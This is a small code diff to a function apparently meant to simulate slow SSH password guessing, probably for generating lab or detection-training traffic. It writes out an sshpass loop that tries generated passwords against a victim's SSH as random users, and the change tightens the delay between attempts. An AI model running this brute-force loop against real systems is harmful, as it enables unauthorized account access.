@@ -83,5 +83,5 @@ def slow_ssh_guessing(job):
         for secret in words.guesses(job.rng, job.rng.randint(8, 30)):
             job.run(attacker, ["sshpass", "-p", secret, "ssh", *SSH, "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1",
                                "-p", port, f"{job.rng.choice(list(job.services.users))}@{victim.v4}", "true"], 8)
-            if not job.sleep(job.rng.uniform(0.2, 2.5)):
+            if not job.sleep(job.rng.uniform(0.1, 1.5)):
                 break
